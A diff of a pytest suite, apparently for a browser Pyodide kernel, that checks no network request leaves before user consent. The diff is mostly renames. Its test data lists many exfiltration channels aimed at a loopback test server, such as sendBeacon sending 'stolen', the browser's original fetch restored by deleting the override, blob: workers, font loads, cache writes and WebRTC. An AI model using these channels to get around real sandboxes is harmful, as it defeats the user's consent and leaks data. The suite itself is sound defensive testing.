@@ -1,6 +1,6 @@
-"""Nothing leaves the kernel before a press: every road of Python and its JavaScript, and a second origin that looks.
+"""No request leaves the kernel before consent, by any way of Python or JavaScript; a second origin records them.
 
-The origin on loopback lets everybody read it, so only the surface's walls are between it and the kernel.
+The origin on loopback allows every reader, so only the surface's own protection separates it from the kernel.
 """
 
 from __future__ import annotations
@@ -40,8 +40,8 @@ class World:
     def python(self, code: str) -> Background:
         return Background(self.surface, "python_run", {"code": textwrap.dedent(code)})
 
-    def settled(self, call: Background) -> bool:
-        """Wait until a call is over or the person is asked, and tell whether they are."""
+    def is_asked(self, call: Background) -> bool:
+        """Wait until a call is over or the user is asked, and return whether the user is asked."""
         return self.surface.wait_for(f"({OVER} && 'over') || ({ASKED} && 'asked')", call.id) == "asked"
 
     def question(self) -> str:
@@ -51,9 +51,9 @@ class World:
         self.person.click(f"#approval-{decision}")
 
     def allowed(self, code: str) -> Any:
-        """Run code, allow what it asks for once, and give its value."""
+        """Run code, allow its request once, and return its value."""
         call = self.python(code)
-        assert self.settled(call), call.result()
+        assert self.is_asked(call), call.result()
         self.answer("once")
         result = call.result()
         assert "error" not in result, result
@@ -77,15 +77,15 @@ def world(opened: World) -> World:
     if opened.surface.javascript(
         f"return Boolean({ASKED}) || document.querySelector('dialog[open]') !== null"
     ):
-        # A test that failed has left it open.
+        # A failed test has left it open.
         opened.surface.load()
     opened.surface.wait_until_ready()
-    opened.outside.forget()
+    opened.outside.reset()
     return opened
 
 
-def in_javascript(body: str) -> str:
-    """Python that runs JavaScript in the kernel; what gives no sign of its end within a second is left alone."""
+def running_javascript(body: str) -> str:
+    """Return Python code that runs JavaScript in the kernel, and waits at most a second for signs of its end."""
     script = f"(async () => {{ {WITHIN} {body} }})()"
     return f"from pyodide.code import run_js\nstr(await run_js({script!r}))"
 
@@ -97,7 +97,7 @@ WITHIN = (
 
 
 def nested(source: str) -> str:
-    """Something with messages and errors, made from an address of the test's."""
+    """Return JavaScript that creates an object with messages and errors, such as a worker, and waits for one."""
     return (
         f"return await within(new Promise((done, fail) => {{ const made = new {source}; "
         "const port = made.port ?? made; port.onmessage = ({ data }) => done(data); "
@@ -109,7 +109,7 @@ FETCHING = "fetch(\\'<url>\\').then(() => (self.postMessage ?? (() => 0))(1))"
 BLOB = f"URL.createObjectURL(new Blob(['{FETCHING}'], {{ type: 'text/javascript' }}))"
 DATA = f"'data:text/javascript,' + encodeURIComponent('{FETCHING}')"
 MICROPIP = "import pyodide_js\nawait pyodide_js.loadPackage('micropip')\nimport micropip\n"
-# What Python names `URL` is the address of the origin that looks.
+# `URL` in Python is the address of the outside origin.
 PYTHON = {
     "js.fetch": "import js\nawait js.fetch(URL)",
     "fetch without CORS": "import js\nfrom pyodide.ffi import to_js\nawait js.fetch(URL, mode='no-cors')",
@@ -135,7 +135,7 @@ PYTHON = {
 }
 JAVASCRIPT = {
     "fetch": "return (await fetch('<url>')).status",
-    "fetch, kept alive": "return (await fetch('<url>', { method: 'POST', body: 'x', keepalive: true })).status",
+    "fetch, keepalive": "return (await fetch('<url>', { method: 'POST', body: 'x', keepalive: true })).status",
     "the browser's own fetch": (
         "const own = Object.getOwnPropertyDescriptor(WorkerGlobalScope.prototype, 'fetch')?.value ?? "
         "(delete self.fetch, self.fetch); return (await own.call(self, '<url>', { mode: 'no-cors' })).type"
@@ -161,7 +161,7 @@ JAVASCRIPT = {
     "import of blob:": f"return await import({BLOB})",
     "sendBeacon": "return navigator.sendBeacon('<url>', 'stolen')",
     "a font": "return (await within(new FontFace('stolen', 'url(<url>/f.woff2)').load())).status",
-    "the cache": "await (await caches.open('x')).add('<url>'); return 'kept'",
+    "the cache": "await (await caches.open('x')).add('<url>'); return 'saved'",
     "the cache, without CORS": "await (await caches.open('x')).add(new Request('<url>', { mode: 'no-cors' }))",
     "WebRTC": (
         "const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:<host>' }] }); c.createDataChannel('x'); "
@@ -183,27 +183,27 @@ JAVASCRIPT = {
 
 
 @pytest.mark.parametrize("name", PYTHON)
-def test_nothing_leaves_by_python_before_a_press(world: World, name: str) -> None:
+def test_nothing_leaves_through_python_before_consent(world: World, name: str) -> None:
     given = f"HOST, PORT = '127.0.0.1', {world.outside.port}\nURL = {world.outside.url!r}\n"
     nothing_leaves(world, given + PYTHON[name])
 
 
 @pytest.mark.parametrize("name", JAVASCRIPT)
-def test_nothing_leaves_by_javascript_before_a_press(world: World, name: str) -> None:
+def test_nothing_leaves_through_javascript_before_consent(world: World, name: str) -> None:
     host = f"127.0.0.1:{world.outside.port}"
     body = JAVASCRIPT[name].replace("<url>", world.outside.url).replace("<host>", host)
-    nothing_leaves(world, in_javascript(body))
+    nothing_leaves(world, running_javascript(body))
 
 
 def nothing_leaves(world: World, code: str) -> None:
     call = world.python(code)
-    asked = world.settled(call)
+    asked = world.is_asked(call)
     assert world.outside.seen() == (0, [])
     while asked:
         assert world.outside.url in world.question()
         world.answer("refuse")
         world.surface.wait_for(f"{OVER} || !{ASKED}", call.id)
-        asked = world.settled(call)
+        asked = world.is_asked(call)
         assert world.outside.seen() == (0, [])
     call.result()
     assert world.outside.seen() == (0, [])
@@ -229,7 +229,7 @@ MARKUP = {
 
 
 @pytest.mark.parametrize("name", MARKUP)
-def test_what_the_console_shows_loads_nothing(world: World, name: str) -> None:
+def test_output_in_the_console_loads_nothing(world: World, name: str) -> None:
     markup = MARKUP[name].replace("URL", world.outside.url)
     person = world.person
     if not world.surface.javascript("return document.querySelector('#python').checkVisibility()"):
@@ -240,14 +240,14 @@ def test_what_the_console_shows_loads_nothing(world: World, name: str) -> None:
     world.surface.javascript(fill, code)
     person.find("#console-input").send_keys(Keys.CONTROL, Keys.ENTER)
     person.sees(".console-result h3", "shown")
-    # Pictures are asked for when they are laid out.
+    # Images are requested at layout.
     world.surface.javascript("await new Promise((done) => requestAnimationFrame(() => setTimeout(done)))")
     assert world.outside.seen() == (0, [])
 
 
-def test_no_name_is_looked_up_before_a_press(world: World) -> None:
+def test_no_name_is_resolved_before_consent(world: World) -> None:
     call = world.python("import js\nawait js.fetch('http://stolen-data.outside.test/')")
-    assert world.settled(call), call.result()
+    assert world.is_asked(call), call.result()
     assert world.outside.names == []
     world.answer("refuse")
     assert "refused" in json.dumps(call.result())
@@ -262,10 +262,10 @@ def test_no_name_is_looked_up_before_a_press(world: World) -> None:
         "http://router.local/",
     ],
 )  # fmt: skip
-def test_this_machine_and_its_network_are_no_subject_for_a_question(world: World, url: str) -> None:
+def test_this_machine_and_its_network_are_refused_without_a_question(world: World, url: str) -> None:
     port = urlsplit(world.companion.mcp_url).port
     call = world.python(f"import js\nawait js.fetch({url.format(main=port)!r})")
-    assert not world.settled(call)
+    assert not world.is_asked(call)
     assert "may not reach" in json.dumps(call.result())
 
 
@@ -294,20 +294,20 @@ def test_this_machine_and_its_network_are_no_subject_for_a_question(world: World
         "undescribed",
     ],
 )
-def test_the_door_itself_gives_nothing_unasked(world: World, body: str) -> None:
+def test_the_door_itself_returns_nothing_without_consent(world: World, body: str) -> None:
     key = world.surface.javascript("return sessionStorage.getItem('gemini:companion:page')")
     described = json.dumps({"url": world.outside.url + "/", "method": "GET"})
     setting = f"const door = location.origin + '/network/{key}', headers = {{ 'X-Network-Request': {described!r} }};"
-    call = world.python(in_javascript(setting + body))
-    assert not world.settled(call)
+    call = world.python(running_javascript(setting + body))
+    assert not world.is_asked(call)
     assert call.result().get("result") != "200"
     assert world.outside.seen() == (0, [])
 
 
-def test_a_redirect_from_an_allowed_origin_asks_for_the_next_one(world: World) -> None:
+def test_a_redirect_to_another_origin_needs_consent(world: World) -> None:
     there = f"{world.outside.second}/stolen?data=1"
     call = world.python(f"import js\n(await js.fetch('{world.outside.named}/redirect?to={there}')).url")
-    assert world.settled(call) and world.outside.named in world.question()
+    assert world.is_asked(call) and world.outside.named in world.question()
     world.answer("once")
     assert world.outside.second in world.person.sees("#approval-question", world.outside.second)
     assert world.outside.seen() == (1, [f"GET /redirect?to={there}"])
@@ -316,11 +316,11 @@ def test_a_redirect_from_an_allowed_origin_asks_for_the_next_one(world: World) -
     assert world.outside.seen() == (1, [f"GET /redirect?to={there}"])
 
 
-# After a press all of them work.
+# After consent all of them work.
 
 
-def test_fetch_answers_as_if_there_were_no_door(world: World) -> None:
-    told = world.allowed(
+def test_fetch_works_as_without_a_door(world: World) -> None:
+    result = world.allowed(
         f"""
         import js
         answer = await js.fetch('{world.outside.named}/page?q=1')
@@ -329,16 +329,16 @@ def test_fetch_answers_as_if_there_were_no_door(world: World) -> None:
         """
     )
     url = f"{world.outside.named}/page?q=1"
-    assert told == [200, url, "yes", "hällo", url]
+    assert result == [200, url, "yes", "hällo", url]
     assert world.outside.requests == ["GET /page?q=1"]
     assert not {"cookie", "referer", "origin"} & world.outside.headers[0].keys()
 
 
-def test_the_question_shows_what_is_sent_and_whose_words_they_are(world: World) -> None:
+def test_the_question_shows_the_request_and_its_caller(world: World) -> None:
     call = world.python(
         f"from pyodide.http import pyfetch\nawait pyfetch('{world.outside.named}/a', method='POST', body='x' * 2000)"
     )
-    assert world.settled(call), call.result()
+    assert world.is_asked(call), call.result()
     question = world.question()
     assert f"{world.outside.named}/a" in question and "POST" in question and "send data" in question
     assert "python_run" in world.person.sees("#approval")
@@ -347,13 +347,15 @@ def test_the_question_shows_what_is_sent_and_whose_words_they_are(world: World) 
     assert world.outside.bodies == [b"x" * 2000]
 
 
-def test_a_synchronous_request_waits_for_the_press(world: World) -> None:
-    told = world.allowed(f"from pyodide.http import open_url\nopen_url('{world.outside.named}/text').read()")
-    assert told == "hällo"
+def test_a_synchronous_request_waits_for_consent(world: World) -> None:
+    result = world.allowed(
+        f"from pyodide.http import open_url\nopen_url('{world.outside.named}/text').read()"
+    )
+    assert result == "hällo"
 
 
 def test_requests_of_xmlhttprequest_have_status_headers_and_bytes(world: World) -> None:
-    told = world.allowed(
+    result = world.allowed(
         f"""
         import js
         from pyodide.ffi import to_js
@@ -366,7 +368,7 @@ def test_requests_of_xmlhttprequest_have_status_headers_and_bytes(world: World) 
         [x.status, x.responseURL, bytes(x.response.to_bytes()).decode(), 'x-own' in names, x.getResponseHeader('X-Own')]
         """
     )
-    assert told == [404, f"{world.outside.named}/missing", "not here", True, "yes"]
+    assert result == [404, f"{world.outside.named}/missing", "not here", True, "yes"]
     assert world.outside.requests == ["PUT /missing"] and world.outside.bodies == [b"data"]
     assert world.outside.headers[0]["x-mine"] == "sent"
 
@@ -377,45 +379,45 @@ def test_an_asynchronous_request_gets_its_events(world: World) -> None:
         "return await new Promise((done) => Object.assign(x, { onerror: () => done('error'), "
         "onload: () => done(`load ${x.responseText}`) }))"
     )
-    assert world.allowed(in_javascript(body)) == "load hällo"
-    call = world.python(in_javascript(body))
-    assert world.settled(call), call.result()
+    assert world.allowed(running_javascript(body)) == "load hällo"
+    call = world.python(running_javascript(body))
+    assert world.is_asked(call), call.result()
     world.answer("refuse")
     assert call.result()["result"] == "error"
 
 
-def test_forms_go_with_their_boundary(world: World) -> None:
+def test_forms_are_sent_with_their_boundary(world: World) -> None:
     body = (
         "const form = new FormData; form.append('a', new Blob(['content']), 'name.txt'); "
         f"return (await fetch('{world.outside.named}/', {{ method: 'POST', body: form }})).status"
     )
-    assert world.allowed(in_javascript(body)) == "200"
+    assert world.allowed(running_javascript(body)) == "200"
     assert b"content" in world.outside.bodies[0]
     boundary = world.outside.headers[0]["content-type"].partition("boundary=")[2]
     assert boundary and boundary.encode() in world.outside.bodies[0]
 
 
 def test_urllib_reads_pages_and_errors(world: World) -> None:
-    told = world.allowed(
+    result = world.allowed(
         f"""
         import urllib.request
         with urllib.request.urlopen('{world.outside.named}/page') as answer:
-            told = [answer.status, answer.headers['X-Own'], answer.read().decode(), answer.url]
-        told
+            values = [answer.status, answer.headers['X-Own'], answer.read().decode(), answer.url]
+        values
         """
     )
-    assert told == [200, "yes", "hällo", f"{world.outside.named}/page"]
-    told = world.allowed(
+    assert result == [200, "yes", "hällo", f"{world.outside.named}/page"]
+    result = world.allowed(
         f"""
         import urllib.error, urllib.request
         try:
             urllib.request.urlopen('{world.outside.named}/missing')
         except urllib.error.HTTPError as error:
-            told = [error.code, error.read().decode()]
-        told
+            values = [error.code, error.read().decode()]
+        values
         """
     )
-    assert told == [404, "not here"]
+    assert result == [404, "not here"]
 
 
 @pytest.mark.parametrize(
@@ -429,21 +431,21 @@ def test_urllib_reads_pages_and_errors(world: World) -> None:
     ],
     ids=["fetch", "open_url", "pyfetch", "urllib", "micropip"],
 )
-def test_a_refusal_says_so_wherever_it_arrives(world: World, code: str) -> None:
+def test_a_refusal_is_reported_by_every_client(world: World, code: str) -> None:
     call = world.python(f"URL = '{world.outside.named}'\n{code}")
-    assert world.settled(call), call.result()
+    assert world.is_asked(call), call.result()
     world.answer("refuse")
     error = call.result()["error"]
     assert f"{world.outside.named} was not sent: the person refused" in json.dumps(error)
 
 
 @pytest.mark.parametrize("name", ["WebSocket", "WebTransport", "EventSource"])
-def test_what_stays_shut_says_so(world: World, name: str) -> None:
+def test_blocked_interfaces_say_so(world: World, name: str) -> None:
     error = world.python(f"import js\njs.{name}.new('https://a.example/')").result()["error"]
     assert "can't be used from the page's Python" in json.dumps(error)
 
 
-# What the tests' own machine has installed, pure Python all of it, with what it imports.
+# Pure Python packages of the tests' own machine, with their dependencies.
 URLLIB3 = ["urllib3"]
 REQUESTS = ["requests", "urllib3", "idna", "certifi", "charset-normalizer"]
 HTTPX = ["httpx", "httpcore", "idna", "certifi", "anyio", "h11"]
@@ -458,12 +460,12 @@ LIBRARIES = {
 }
 
 
-def bring(surface: Surface, packages: list[str]) -> None:
-    """Install packages of this machine in the page."""
+def install(surface: Surface, packages: list[str]) -> None:
+    """Install packages of this machine into the page."""
     archive = io.BytesIO()
     with zipfile.ZipFile(archive, "w") as file:
         for each in (each for package in packages for each in distribution(package).files or ()):
-            # Python's own files, none that are compiled for this machine.
+            # Only source files, without binaries for this machine.
             if each.suffix not in (".pyc", ".so") and ".." not in each.parts:
                 file.write(str(each.locate()), str(each))
     data = base64.b64encode(archive.getvalue()).decode()
@@ -477,17 +479,17 @@ def bring(surface: Surface, packages: list[str]) -> None:
 @pytest.mark.parametrize("library", LIBRARIES)
 def test_libraries_that_open_sockets_ask_too(world: World, library: str) -> None:
     packages, code = LIBRARIES[library]
-    bring(world.surface, packages)
+    install(world.surface, packages)
     call = world.python(f"import {packages[0]}\nURL = {world.outside.named!r}\n{code}")
-    assert world.settled(call), call.result()
+    assert world.is_asked(call), call.result()
     assert world.outside.seen() == (0, [])
     assert world.outside.named in world.question()
     world.answer("once")
     assert call.result().get("result") == [200, "hällo"], call.result()
 
 
-def test_micropip_installs_from_an_index_after_its_presses(world: World) -> None:
-    wheel = thing()
+def test_micropip_installs_from_an_index_after_consent(world: World) -> None:
+    wheel = build_wheel()
     files = f"{world.outside.named}/files/{wheel.name}"
     metadata = {
         "info": {"name": "thing", "version": "1.0"},
@@ -499,7 +501,7 @@ def test_micropip_installs_from_an_index_after_its_presses(world: World) -> None
     call = world.python(
         f"{MICROPIP}await micropip.install('thing', index_urls=['{index}'])\nimport thing\nthing.value"
     )
-    assert world.settled(call), call.result()
+    assert world.is_asked(call), call.result()
     world.answer("run")
     result = call.result()
     assert result.get("result") == 42, result
@@ -513,8 +515,8 @@ class Wheel:
     digest: str
 
 
-def thing() -> Wheel:
-    """A package of one module, `thing`."""
+def build_wheel() -> Wheel:
+    """Build a wheel with one module, `thing`."""
     import hashlib
     import io
     import zipfile
